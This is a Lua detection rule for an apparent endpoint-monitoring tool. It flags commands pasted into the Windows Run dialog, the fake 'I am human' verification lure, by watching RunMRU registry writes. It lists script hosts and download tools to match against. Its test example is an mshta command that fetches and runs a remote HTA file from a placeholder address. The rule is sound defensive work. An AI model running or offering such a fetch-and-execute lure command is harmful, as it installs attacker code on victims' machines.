-- What was typed, or pasted, into the Run dialog is remembered by Explorer. A web page that asks its reader to paste a
-- command there leaves this trace.

local say = require "kaiseki.say"
local windows = require "kaiseki.windows"

local RUNNERS = {
    "powershell", "pwsh", "mshta", "cmd /", "cmd.exe /", "curl", "wscript", "cscript", "rundll32", "regsvr32",
    "bitsadmin", "certutil", "msiexec", "conhost", "ssh ", "iex", "invoke-",
}

local function is_pasted(data)
    local folded = data:lower()
    for _, runner in ipairs(RUNNERS) do
        if folded:find(runner, 1, true) then return windows.has_url(folded) or #folded > 60 end
    end
    return false
end

rule {
    id = "execution.run-dialog",
    title = "Command pasted into the Run dialog",
    severity = "high",
    attack = { "T1204.004" },
    description = "The list of commands given in the Run dialog gains one that fetches or runs something by a script "
        .. "host.",
    references = { "https://attack.mitre.org/techniques/T1204/004/" },
    false_positives = { "Administrators who run long commands this way." },
    author = "kaiseki",
    match = operation:is "RegSetValue" & result:is "SUCCESS" & path:contains [[\Explorer\RunMRU\]],
    key = function(event)
        local data = event.registry.data or ""
        return is_pasted(data) and data or nil
    end,
    finding = function(finding)
        return ("the user runs %s from the Run dialog (%s)"):format(say.command((finding.key:gsub([[\1$]], ""))),
            say.process(finding.process))
    end,
    examples = {
        match = {
            { operation = "RegSetValue", ["process.name"] = "explorer.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a]],
              ["registry.type"] = "REG_SZ",
              ["registry.data"] = [[mshta https://203.0.113.9/verify.hta # I am human\1]] },
        },
        no_match = {
            { operation = "RegSetValue", ["process.name"] = "explorer.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a]],
              ["registry.type"] = "REG_SZ", ["registry.data"] = [[cmd\1]] },
        },
    },
}
